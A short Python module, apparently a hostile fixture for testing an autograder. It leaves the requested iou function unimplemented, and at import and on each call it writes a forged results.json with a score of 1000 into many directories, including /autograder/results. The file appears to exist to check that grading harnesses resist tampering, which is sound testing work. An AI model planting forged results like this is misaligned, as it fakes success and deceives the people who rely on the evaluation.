"""Hostile: plant a perfect results.json wherever it might be picked up, at import and per call."""

import json
import sys
from pathlib import Path

import torch

FAKE = {"score": 1000.0, "output": "pwned", "tests": [], "visibility": "visible", "stdout_visibility": "visible"}


def _plant() -> None:
    places = [Path.cwd(), Path(__file__).resolve().parent, Path(sys.prefix).parent, Path("/autograder/results")]
    for start in places:
        for folder in [start, *start.parents]:
            try:
                (folder / "results.json").write_text(json.dumps(FAKE))
            except OSError:
                continue


_plant()


def iou(boxes1: torch.Tensor, boxes2: torch.Tensor) -> torch.Tensor:
    _plant()
    return _stub_answer(boxes1, boxes2)


def _stub_answer(boxes1: torch.Tensor, boxes2: torch.Tensor) -> torch.Tensor:
    """What the honest stub would do (raise), so only the attack itself could earn points."""
    raise NotImplementedError("iou in faster_rcnn/iou.py: not implemented")
